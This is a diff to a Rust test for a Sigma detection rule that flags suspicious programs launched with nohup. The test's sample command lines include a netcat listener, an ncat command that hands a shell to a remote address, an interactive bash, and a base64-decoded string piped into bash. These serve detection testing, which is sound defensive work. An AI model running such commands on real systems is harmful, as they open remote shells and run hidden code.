@@ -102,8 +102,10 @@ fn every_exported_regex_is_in_the_portable_subset() {
     }
 }
 
-/// The nohup rule's regexes, as the process_creation rule applies them, on a
-/// command line (`regex` searches, as Python, PCRE and RE2 do).
+/// The nohup rule's one-regex indicator items, as the process_creation rule applies
+/// them, on a command line (`regex` searches, as Python, PCRE and RE2 do; the
+/// exported patterns read the same anchored, see `portable`). Items that combine a
+/// regex with `endswith` are left out, so this can only under-report.
 fn nohup_rule_fires(command_line: &str) -> bool {
     let files = export_at(&Rules::embedded(), ExportFormat::Sigma, at()).unwrap();
     let rule = &files
@@ -111,29 +113,32 @@ fn nohup_rule_fires(command_line: &str) -> bool {
         .find(|(n, _)| n == "proc_creation_lnx_sighunt_nohup_suspicious_program.yml")
         .unwrap()
         .1;
-    let mut indicator = false;
-    let mut masquerade = false;
-    let mut system_dir = false;
-    let mut current = "";
+    let mut items: Vec<(String, Vec<String>)> = Vec::new();
     for line in rule.lines() {
-        let t = line.trim();
-        if t.ends_with(':') && line.starts_with("    ") && !line.starts_with("        ") {
-            current = t;
-        }
-        if let Some((_, v)) = t.split_once("|re: ") {
-            let re = regex::Regex::new(&v[1..v.len() - 1].replace("''", "'")).unwrap();
-            if re.is_match(command_line) {
-                if current.starts_with("filter_masquerade") {
-                    system_dir = true;
-                } else if current.starts_with("indicator_masquerade") {
-                    masquerade = true;
-                } else {
-                    indicator = true;
-                }
+        if line.starts_with("    ") && !line.starts_with("        ") {
+            items.push((line.trim().trim_end_matches(':').to_string(), Vec::new()));
+        } else if line.starts_with("        ") {
+            if let Some(item) = items.last_mut() {
+                item.1.push(line.trim().to_string());
             }
         }
     }
-    indicator || (masquerade && !system_dir)
+    let single = |name: &str| -> bool {
+        items.iter().any(|(n, body)| {
+            n.starts_with(name) && body.len() == 1 && body[0].starts_with("CommandLine|re: ") && {
+                let v = &body[0]["CommandLine|re: ".len()..];
+                regex::Regex::new(&v[1..v.len() - 1].replace("''", "'"))
+                    .unwrap()
+                    .is_match(command_line)
+            }
+        })
+    };
+    let masquerade = single("indicator_masquerade") && !single("filter_masquerade");
+    let other = items
+        .iter()
+        .filter(|(n, _)| n.starts_with("indicator_") && !n.starts_with("indicator_masquerade"))
+        .any(|(n, _)| single(n));
+    other || masquerade
 }
 
 #[test]
@@ -146,7 +151,7 @@ fn nohup_rules_fire_on_payloads_not_on_admin_jobs() {
         "nohup nc -lvp 4444",
         "nohup ./kworker 1",
         "env X=1 nohup /tmp/p",
-        "nohup bash -i",
+        "nohup /bin/bash -i -l",
         "nohup ncat --sh-exec /bin/sh 10.0.0.1 9",
         "sh -c 'echo ZWNobw== | base64 -d | bash'",
     ] {
